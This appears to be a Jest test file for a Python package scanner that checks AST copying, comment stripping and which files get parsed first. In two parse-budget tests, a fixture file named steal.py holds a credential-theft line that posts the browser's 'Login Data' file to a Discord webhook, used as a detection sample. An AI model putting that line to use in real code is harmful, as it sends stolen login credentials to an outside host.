import { describe, expect, it } from '@jest/globals';
import { AnalysisContext } from '../../../src/analysis/context.js';
import { copyTree, forEachNode, type PyNode } from '../../../src/analysis/python/ast.js';
import { pythonPackageFacts } from '../../../src/analysis/python/package.js';
import { initPythonParser, parsePython } from '../../../src/analysis/python/parser.js';
import { codeWithoutProse } from '../../../src/analysis/python/syntax.js';
import type { Node } from 'web-tree-sitter';

function context(files: Record<string, string>): AnalysisContext {
  return new AnalysisContext({
    ecosystem: 'pypi',
    files: Object.entries(files).map(([path, text]) => {
      const data = new TextEncoder().encode(text);
      return { path, data, size: data.length };
    }),
  });
}

describe('copyTree', () => {
  it('derives the same types, ranges and rows as tree-sitter reports', async () => {
    await initPythonParser();
    const source = [
      '# -*- coding: utf-8 -*-',
      'import base64 as b',
      'x = f"{name!r:>{width}} and \\t {value:.2f}"',
      "y = b'\\x41\\x42' + r'raw\\d' + '''multi",
      "line''' + 'é\\N{BULLET}'",
      'def f(a, *args, **kw):',
      '    return [i for i in range(3) if i] or {k: v for k, v in kw.items()}',
      'class C(object):',
      '    """doc"""',
      '    async def g(self): await h(lambda z: z ** 2)',
      'broken = (1, ',
    ].join('\n');
    const tree = parsePython(source);
    const ast = copyTree(tree, source);
    const expected: Node[] = [];
    const stack: Node[] = [tree.rootNode];
    while (stack.length) {
      const node = stack.pop() as Node;
      expected.push(node);
      for (let i = node.childCount - 1; i >= 0; i--) stack.push(node.child(i) as Node);
    }
    const ours: PyNode[] = [];
    forEachNode(ast.root, (n) => ours.push(n));
    expect(ours.length).toBe(expected.length);
    ours.forEach((node, i) => {
      const other = expected[i];
      expect([node.type, node.isNamed, node.startIndex, node.endIndex]).toEqual([
        other.type,
        other.isNamed,
        other.startIndex,
        other.endIndex,
      ]);
      expect(node.startPosition).toEqual(other.startPosition);
    });
    tree.delete();
  });
});

describe('codeWithoutProse', () => {
  it('drops comments and triple-quoted strings but keeps code and one-line strings', () => {
    const code = codeWithoutProse(
      [
        '"""Runs a system command for requests."""',
        'x = "#not a comment"  # os.system here is prose',
        "getattr(os, 'system')",
        "s = '''exec in a docstring \\''' still inside'''",
        'y = 1',
      ].join('\n'),
    );
    expect(code).not.toMatch(/prose|docstring|Runs a system/);
    expect(code).toContain('"#not a comment"');
    expect(code).toContain("getattr(os, 'system')");
    expect(code).toContain('y = 1');
    // line structure is not needed, but the statements stay apart
    expect(code.split('\n').length).toBeGreaterThanOrEqual(4);
  });
});

describe('python parse budget', () => {
  it('parses install-time code and indicator files first and lists what it left as text', async () => {
    await initPythonParser();
    const filler = 'import subprocess\n' + 'def f():\n    subprocess.run(["ls"])\n'.repeat(200);
    const steal =
      'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", data=open("Login Data").read())\n' +
      '# padding\n'.repeat(800);
    const ctx = context({
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/big_a.py': filler,
      'demo-1.0/demo/big_b.py': filler + filler,
      'demo-1.0/demo/steal.py': steal,
    });
    const facts = pythonPackageFacts(ctx, steal.length + filler.length + 100);
    const parsed = facts.files.map((f) => f.path).sort();
    // steal.py carries indicators and goes first though it is larger; big_a fits what is left
    expect(steal.length).toBeGreaterThan(filler.length);
    expect(parsed).toEqual([
      'demo-1.0/demo/big_a.py',
      'demo-1.0/demo/steal.py',
      'demo-1.0/setup.py',
    ]);
    expect(facts.textOnly).toEqual(['demo-1.0/demo/big_b.py']);
  });

  it('stops parsing files without indicators once the time budget is spent', async () => {
    await initPythonParser();
    const filler = 'import subprocess\n' + 'def f():\n    subprocess.run(["ls"])\n'.repeat(20);
    const ctx = context({
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/big_a.py': filler,
      'demo-1.0/demo/steal.py':
        'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", data=open("Login Data").read())\n',
    });
    const facts = pythonPackageFacts(ctx, 10 * 1024 * 1024, 0);
    // with no time at all, only install-time code is parsed
    expect(facts.files.map((f) => f.path)).toEqual(['demo-1.0/setup.py']);
    expect(facts.textOnly.sort()).toEqual(['demo-1.0/demo/big_a.py', 'demo-1.0/demo/steal.py']);
  });

  it('always parses the top-level __init__.py but lets nested ones compete for the budget', async () => {
    await initPythonParser();
    const ctx = context({
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/__init__.py': 'from .api import *\n',
      'demo-1.0/demo/api/__init__.py': 'from .figure import Figure\n',
      'demo-1.0/demo/api/layout/__init__.py': 'from ._axis import Axis\n',
    });
    const facts = pythonPackageFacts(ctx, 10 * 1024 * 1024, 0);
    const parsed = facts.files.map((f) => f.path);
    expect(parsed).toContain('demo-1.0/demo/__init__.py');
    expect(parsed).not.toContain('demo-1.0/demo/api/layout/__init__.py');
  });

  it('does not parse files whose only trigger words sit in comments and docstrings', async () => {
    await initPythonParser();
    const facts = pythonPackageFacts(
      context({
        'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
        'demo-1.0/demo/models.py':
          '"""Describes the operating system images; send requests with the client."""\n' +
          'class Image:\n    # the system disk\n    size = 20\n',
      }),
    );
    expect(facts.files.map((f) => f.path)).toEqual(['demo-1.0/setup.py']);
    expect(facts.textOnly).toEqual([]);
  });
});
